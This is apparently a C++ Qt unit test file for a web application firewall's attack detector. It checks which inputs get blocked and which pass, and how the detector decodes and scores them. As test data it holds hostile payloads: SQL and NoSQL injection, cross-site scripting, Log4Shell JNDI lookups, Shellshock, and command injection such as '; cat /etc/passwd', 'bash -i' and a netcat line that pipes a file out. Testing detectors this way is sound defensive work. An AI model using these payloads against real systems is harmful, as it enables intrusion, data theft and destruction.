#include "backend/protection/detection/bytes.h"
#include "backend/protection/detection/decode.h"
#include "backend/protection/detection/detector.h"
#include "tests/support/test_main.h"

#include <QtTest>

namespace tst_detector {

using namespace sallyport::protection::detection;

class TstDetector : public QObject {
    Q_OBJECT

    static Verdict inspect(PartKind kind, std::string_view bytes, const Options& options = {}, std::string_view name = {})
    {
        static const Detector detector;
        const Part part{kind, name, bytes};
        return detector.inspect(std::span(&part, 1), options);
    }

    static std::string deeper(std::string_view text)
    {
        Decoded decoded;
        return decodeDeeper(text, kindsOf(text), false, decoded, nullptr) ? decoded.text : std::string(text);
    }

private Q_SLOTS:
    void hit_tellsMemberAndPlaceInTheValueAsReceived()
    {
        const std::string body = "{\"record_id\": 2231, \"items\": [{\"note\": \"dose 1%27 \\u004fR/**/1=1 -- \"}]}";
        const auto verdict = inspect(PartKind::Json, body);
        QVERIFY(verdict.blocked);
        QVERIFY(verdict.has(AttackClass::Sql));
        const auto& hit = verdict.hits.front();
        QCOMPARE(hit.rule, std::string("sql.always-true"));
        QCOMPARE(hit.title, std::string("Always true"));
        QCOMPARE(hit.member, std::string("items.note"));
        QVERIFY(!hit.inName);
        QCOMPARE(hit.offset, std::size_t{6}); // the coded quote
        QCOMPARE(body.substr(hit.partOffset, 3), std::string("%27"));
        QVERIFY(hit.offset + hit.length <= body.size());
        QVERIFY(hit.matched.starts_with("' OR"));
    }

    void name_isLookedAt()
    {
        const auto verdict = inspect(PartKind::Query, "a=1&pass[$ne]=x");
        QVERIFY(verdict.blocked);
        QVERIFY(verdict.hits.front().inName);
        QCOMPARE(verdict.hits.front().member, std::string("pass[$ne]"));
        QCOMPARE(verdict.hits.front().attackClass, AttackClass::NoSql);
    }

    /// Servers log headers whatever their use is; of those that are the transport's only what a log or a shell would run counts.
    void headersOfTheTransport_lookupsAndFunctionsAreSeen()
    {
        for (const char* name : {"Host", "If-Modified-Since", "Authorization", "Signature", "Transfer-Encoding", "X-Anything"}) {
            QVERIFY2(inspect(PartKind::Header, "${${lower:j}ndi:dns://a}", {}, name).blocked, name);
            QVERIFY2(inspect(PartKind::Header, "() { :;}; /bin/id", {}, name).blocked, name);
        }
        QVERIFY(inspect(PartKind::Header, "sig=(\"a\" \"b\");x='{' or 1=1", {}, "Signature-Input").hits.empty());
    }

    /// The same words in a query, where a command may be behind, and where somebody writes about them.
    void linesOfCommands_passWhereTheyAreWritten()
    {
        for (const char* line : {"cat notes.txt | wc -l", "du -sh * | sort -h", "cd ../src && make", "ls -la; cd /tmp",
                                 "RUN apk add --no-cache curl && rm -rf /var/cache/apk/*", "name;id", "host;id;date"})
            QVERIFY2(!inspect(PartKind::Text, line).blocked, line);
        for (const char* line : {"x | wc -l /etc/passwd", "x;cat a.txt", "ls -la; rm -rf /", "cat a.txt | nc 203.0.113.4 80",
                                 "x;id", "ls -la; whoami", "ls -la; bash -i", "x;a=id;$a", "x;command whoami", "x;w'h'o'a'm'i"})
            QVERIFY2(inspect(PartKind::Text, line).blocked, line);
    }

    void statements_passWhereTheyAreShown_notBehindAValue()
    {
        for (const char* shown : {"CREATE TABLE invoice (id INTEGER PRIMARY KEY, total NUMERIC(10,2) NOT NULL);",
                                  "SELECT city, COUNT(*) FROM customers GROUP BY city HAVING COUNT(*) > 5;",
                                  "UPDATE products SET price = price * 1.05 WHERE category = 'tools';",
                                  "ALTER TABLE orders ADD COLUMN note TEXT; CREATE INDEX ON orders (note);",
                                  "WITH t AS (SELECT * FROM orders WHERE placed > now()) SELECT count(*) FROM t;"})
            QVERIFY2(!inspect(PartKind::Text, shown).blocked, shown);
        for (const char* slipped :
             {"1; CREATE TABLE x (id int)", "SELECT password FROM users WHERE id = 1",
              "SELECT name FROM sqlite_master WHERE type = 'table'", "x'; UPDATE users SET a = 1 WHERE 1=1; --",
              "SELECT a FROM t WHERE b = 1 UNION SELECT sql FROM sqlite_master"})
            QVERIFY2(inspect(PartKind::Text, slipped).blocked, slipped);
    }

    void member_isNamedAsItIsMeant_howeverItCame()
    {
        QCOMPARE(inspect(PartKind::Query, "pass%5b%24ne%5d=1").hits.front().member, std::string("pass[$ne]"));
        QCOMPARE(inspect(PartKind::Form, "a%0a=%27+or+1%3d1").hits.front().member, std::string("a%0a")); // can't be shown
        std::vector<Exclusion> exclusions(1);
        exclusions[0].everyClass = true;
        exclusions[0].kind = PartKind::Query;
        exclusions[0].member = "q";
        Options options;
        options.exclusions = exclusions;
        QVERIFY(inspect(PartKind::Query, "%71=%27%20or%201=1", options).hits.empty());
        QVERIFY(inspect(PartKind::Query, "%72=%27%20or%201=1", options).blocked);
        QVERIFY(inspect(PartKind::Form, "q=%27%20or%201=1", options).blocked);
    }

    void modes_offFindsNothing_observeDoesNotCount()
    {
        const std::string_view query = "q=%3Cscript%3Ealert(1)%3C/script%3E";
        Options options;
        options.modes[static_cast<std::size_t>(AttackClass::Script)] = ClassMode::Observe;
        const auto observed = inspect(PartKind::Query, query, options);
        QVERIFY(!observed.blocked);
        QVERIFY(observed.wouldBlock);
        QCOMPARE(observed.score, 0U);
        QVERIFY(observed.observedScore >= options.threshold);
        QVERIFY(observed.hits.front().observed);
        options.modes[static_cast<std::size_t>(AttackClass::Script)] = ClassMode::Off;
        QVERIFY(inspect(PartKind::Query, query, options).hits.empty());
    }

    void exclusions_byRuleAndMember()
    {
        const std::string_view query = "id=1%20union%20select%20null,null";
        Options options;
        QVERIFY(inspect(PartKind::Query, query, options).blocked);
        std::vector<Exclusion> exclusions(1);
        exclusions[0].rule = "sql.union";
        exclusions[0].kind = PartKind::Query;
        exclusions[0].member = "other";
        options.exclusions = exclusions;
        QVERIFY(inspect(PartKind::Query, query, options).blocked);
        exclusions[0].member = "id";
        const auto verdict = inspect(PartKind::Query, query, options);
        QVERIFY(std::ranges::none_of(verdict.hits, [](const Hit& hit) { return hit.rule == "sql.union"; }));
        exclusions[0].rule.clear(); // the whole class
        exclusions[0].attackClass = AttackClass::Sql;
        QVERIFY(inspect(PartKind::Query, query, options).hits.empty());
        const std::vector<std::string_view> disabled{"sql.union"};
        Options without;
        without.disabledRules = disabled;
        QVERIFY(std::ranges::none_of(inspect(PartKind::Query, query, without).hits,
                                     [](const Hit& hit) { return hit.rule == "sql.union"; }));
    }

    void strictness_higherFindsMore()
    {
        Options options;
        options.strictness = 1;
        QVERIFY(!inspect(PartKind::Text, "http://backend/", options).blocked); // of strictness 2
        options.strictness = 2;
        QVERIFY(inspect(PartKind::Text, "http://backend/", options).blocked);
        options.classStrictness[static_cast<std::size_t>(AttackClass::ServerRequests)] = 1;
        QVERIFY(!inspect(PartKind::Text, "http://backend/", options).blocked);
        Options strict;
        const std::string_view hint = "see ../docs/readme.md for more"; // two points
        QVERIFY(!inspect(PartKind::Text, hint, strict).blocked);
        strict.strictness = 4;
        QVERIFY(inspect(PartKind::Text, hint, strict).score > inspect(PartKind::Text, hint).score);
    }

    void threshold_decides()
    {
        Options options;
        options.threshold = 50;
        const auto verdict = inspect(PartKind::Text, "' or 1=1 --", options);
        QVERIFY(!verdict.blocked);
        QVERIFY(verdict.score >= 9);
    }

    void decoding_inTheOrderOfAServer_againUntilNothingChanges()
    {
        QCOMPARE(deeper("%253Cscript"), std::string("<script"));
        QCOMPARE(deeper("&lt;b&#62;&#x22;"), std::string("<b>\""));
        QCOMPARE(deeper("\\x3ca\\u003eb"), std::string("<a>b"));
        QCOMPARE(deeper("%u003cx"), std::string("<x"));
        QCOMPARE(deeper("\xEF\xBC\x9Cx"), std::string("<x"));
        QCOMPARE(deeper("..\xC0\xAF"), std::string("../"));
        QCOMPARE(deeper("j\xE2\x80\x8Bs"), std::string("js"));
        QCOMPARE(deeper("100% & more"), std::string("100% & more"));
        std::string deep = "%3C";
        for (int i = 0; i < 40; ++i)
            deep.insert(1, "25");         // forty times over
        QVERIFY(deeper(deep).size() > 3); // bounded
        std::string decoded;
        QVERIFY(decodeBase64("PHNjcmlwdD4x", kindsOf("PHNjcmlwdD4x"), decoded));
        QCOMPARE(decoded, std::string("<script>1"));
        QVERIFY(!decodeBase64("not base64!", kindsOf("not base64!"), decoded));
        QVERIFY(hasOverlong("\xC0\xAE"));
        QVERIFY(!hasOverlong("\xC3\x80"));
    }

    void base64_wholeValue()
    {
        const auto verdict = inspect(PartKind::Json, "{\"a\":\"JyBvciAxPTEgLS0g\"}"); // ' or 1=1 --
        QVERIFY(verdict.blocked);
        QCOMPARE(verdict.hits.front().length, std::size_t{16}); // all of it
    }

    void wrongBlocksOfOthers_pass()
    {
        for (const std::string text : {"Привет; кто там? Да, я.", "onQ8Zt5m=on9aXonLoadPq7=", "left (side); right (side)",
                                       "O'Brien", "select a plan from our list", "uno; due; tre", "eins; zwei; drei",
                                       "un ; deux ; trois", "raz; dwa", "один; два", "bir; iki"})
            QVERIFY2(!inspect(PartKind::Json, "{\"profile\":{\"note\":\"" + text + "\"}}").blocked, text.c_str());
    }

    /// Whoever writes about a path, a command or an address isn't sending one: sentences around it tell, where people write.
    void whatIsWrittenAbout_isOnlyMentioned()
    {
        constexpr auto mentions = std::to_array<std::string_view>({
            "ping -c 3 10.0.0.1 shows 100% packet loss since this morning, other hosts answer fine.",
            "I had to vi /etc/hosts and add the second line again.",
            "Is it normal that /etc/passwd lists a user for games? Our auditor asks why.",
            "The wiki has moved to http://10.1.2.3/wiki, please update your bookmarks.",
            "Our template starts with <?php and then the theme prints a blank line.",
            "The job is in cron: 0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1\nbut since Sunday it does not "
            "run.",
            "FROM debian:12\nRUN apt-get update && apt-get install -y curl\nCOPY . /app\nCMD [\"/app/run.sh\"]",
        });
        Options strict;
        strict.strictness = 3;
        for (const std::string_view text : mentions) {
            QVERIFY2(!inspect(PartKind::Text, text).blocked, text.data());
            QVERIFY2(inspect(PartKind::Text, text, strict).score >= inspect(PartKind::Text, text).score, text.data());
        }
        // One who asks for everything gets it.
        QVERIFY(inspect(PartKind::Text, "Is it normal that /etc/passwd lists a user for games?", strict).blocked);
        // A parameter has no sentences to tell of it.
        QVERIFY(inspect(PartKind::Query, "q=is+it+normal+that+/etc/passwd+lists+a+user+for+games").blocked);
    }

    /// Words around it don't hide what works wherever it stands, nor what goes on in somebody else's text.
    void wordsAroundAnAttack_dontHideIt()
    {
        for (const std::string_view text : {
                 "Great article, thank you very much! <script>alert(1)</script>",
                 "Please look at this nice picture of my cat <img src=x onerror=alert(1)> and tell me",
                 "Please press this button here <button onclick=\"eval(name)\">Save</button> to go on",
                 "The old page has <link rel=\"stylesheet\" href=\"//a.example/x.css\"> in its head",
                 "see our new page <script src=\"/\\a.example/x.js\"></script> for more of it",
                 "my name is Bob Smith' OR '1'='1",
                 "hello my dear friend' UNION SELECT username, password FROM users--",
                 "Please look at this ${jndi:ldap://a.example/b} and tell me what it is",
                 "Please read this <!--#exec cmd=\"id\"--> for me and tell",
                 "; cat /etc/passwd please and then tell me more",
                 "report.pdf; cat /etc/passwd",
             })
            QVERIFY2(inspect(PartKind::Text, text).blocked, text.data());
    }

    void headers_tokensAreNotRead()
    {
        QVERIFY(inspect(PartKind::Header, "Bearer ' or 1=1 --", {}, "Authorization").hits.empty());
        QVERIFY(inspect(PartKind::Header, "' or 1=1 --", {}, "Referer").blocked);
        QVERIFY(inspect(PartKind::Header, "sqlmap/1.8", {}, "User-Agent").blocked);
    }

    void everyKindOfPart()
    {
        const std::string_view attack = "<script>alert(1)</script>";
        for (const auto kind :
             {PartKind::Header, PartKind::Multipart, PartKind::FileName, PartKind::Xml, PartKind::Text, PartKind::Cookie}) {
            const std::string bytes = kind == PartKind::Cookie ? "a=b; c=" + std::string(attack) : std::string(attack);
            QVERIFY2(inspect(kind, bytes, {}, "field").blocked, partWord(kind).data());
        }
        QVERIFY(inspect(PartKind::Form, "a=b&c=%3Cscript%3Ealert(1)").blocked);
        QVERIFY(inspect(PartKind::Path, "/api/%3Cscript%3Ealert(1)").blocked);
    }

    void malformed_isReadAllTheSame()
    {
        for (const std::string_view body :
             {"", "{", "[[[[", "{\"a", "{\"a\":\"\\", "%", "{\"\\u12", "\"", "{\"a\":\"\\u\"}", "nonsense"})
            QVERIFY(!inspect(PartKind::Json, body).blocked);
        std::string deep(100'000, '[');
        QVERIFY(!inspect(PartKind::Json, deep).blocked);
        QVERIFY(inspect(PartKind::Json, deep + "\"' or 1=1 --\"").blocked);
    }

    void own_rules()
    {
        OwnRule rule;
        rule.id = "own.coupon";
        rule.title = "Coupon guessing";
        rule.pattern = "coupon-\\d{4}";
        rule.literal = false;
        rule.points = 7;
        rule.tests = {{"COUPON-1234", true}, {"coupon", false}};
        QVERIFY(checkOwnRule(rule));
        auto detector = Detector::make({rule});
        QVERIFY(detector);
        const Part part{PartKind::Query, {}, "c=x+coupon-0001"};
        const auto verdict = (*detector)->inspect(std::span(&part, 1), {});
        QCOMPARE(verdict.score, 7U);
        QCOMPARE(verdict.hits.front().attackClass, AttackClass::Own);
        QCOMPARE(verdict.hits.front().offset, std::size_t{2});
        rule.tests = {{"coupon-1", true}};
        QVERIFY(!checkOwnRule(rule));
        rule.tests.clear();
        rule.pattern = "(";
        QVERIFY(!checkOwnRule(rule));
        rule.pattern = "x*";
        QVERIFY(!checkOwnRule(rule));
        rule.pattern.clear();
        QVERIFY(!Detector::make({rule}));
        rule.literal = true;
        rule.pattern = "AbC";
        rule.caseSensitive = true;
        rule.tests = {{"xAbCx", true}, {"abc", false}};
        QVERIFY(checkOwnRule(rule));
    }

    void explain_everyStageAndWhatTokensGive()
    {
        const Detector detector;
        const std::string body = "{\"note\":\"1%27 \\u004fR/**/1=1 -- \"}";
        const Part part{PartKind::Json, {}, body};
        const auto explanation = detector.explain(std::span(&part, 1), {});
        QVERIFY(explanation.verdict.blocked);
        QCOMPARE(explanation.values.size(), std::size_t{2}); // the name, the value
        const auto& value = explanation.values.back();
        QCOMPARE(value.member, std::string("note"));
        QCOMPARE(value.stages.front().kind, StageKind::Received);
        QCOMPARE(value.stages.front().text, std::string("1%27 \\u004fR/**/1=1 -- "));
        QCOMPARE(value.stages.back().kind, StageKind::Matched);
        const auto has = [&](StageKind kind) {
            return std::ranges::any_of(value.stages, [&](const Stage& stage) { return stage.kind == kind; });
        };
        QVERIFY(has(StageKind::JsonEscape));
        QVERIFY(has(StageKind::Percent));
        QVERIFY(has(StageKind::SqlComment));
        for (const auto& stage : value.stages) {
            if (stage.kind == StageKind::Percent) {
                QCOMPARE(stage.text, std::string("1' OR/**/1=1 -- "));
                QCOMPARE(stage.changes, std::size_t{1});
                QCOMPARE(stage.changed.front().offset, std::size_t{1});
            }
        }
        std::uint32_t sum = 0;
        for (const auto& token : value.tokens)
            sum += token.points;
        QCOMPARE(sum, value.score);
        QVERIFY(std::ranges::any_of(value.tokens,
                                    [](const Token& token) { return token.role == TokenRole::ClosesText && token.points == 2; }));
        QVERIFY(std::ranges::any_of(value.tokens, [](const Token& token) { return token.role == TokenRole::AlwaysTrue; }));
        QCOMPARE(explanation.verdict.score, detector.inspect(std::span(&part, 1), {}).score);
    }

    /// Each rule's points stand at what that rule has read, also where two of them have read the same bytes.
    void tokens_carryThePointsOfTheirOwnRule()
    {
        const Detector detector;
        for (const char* const text :
             {"x' or 'a'='a' -- ", "1;select pg_sleep(5)", "1 union select user(),2 -- ", "x'; drop table users --",
              "<svg onload=alert(1)>", "; cat /etc/passwd", "' and extractvalue(1,concat(0x7e,version())) --"}) {
            const Part part{PartKind::Text, {}, text};
            const Explanation explanation = detector.explain(std::span(&part, 1), {});
            const auto& value = explanation.values.back();
            QVERIFY2(!value.hits.empty(), text);
            std::uint32_t sum = 0;
            for (const auto& token : value.tokens)
                sum += token.points;
            QCOMPARE(sum, value.score);
            // Those of the first hit come first, and give what it gave; the others have one each.
            const std::size_t others = value.hits.size() - 1;
            QVERIFY2(value.tokens.size() > others, text);
            std::uint32_t first = 0;
            for (std::size_t i = 0; i + others < value.tokens.size(); ++i)
                first += value.tokens[i].points;
            QVERIFY2(first == value.hits.front().points, text);
        }
    }

    void words_areThereForEverything()
    {
        for (std::size_t i = 0; i < classCount; ++i)
            QCOMPARE(classOf(classWord(static_cast<AttackClass>(i))), std::optional(static_cast<AttackClass>(i)));
        QVERIFY(!classOf("nothing"));
        QCOMPARE(stageTitle(StageKind::Received), std::string_view("As received"));
        QCOMPARE(roleTitle(TokenRole::CutsTheRest), std::string_view("Cuts the rest"));
        QCOMPARE(severityWord(Severity::Critical), std::string_view("critical"));
    }
};

SALLYPORT_TEST(TstDetector)

} // namespace tst_detector

#include "tst_detector.moc"
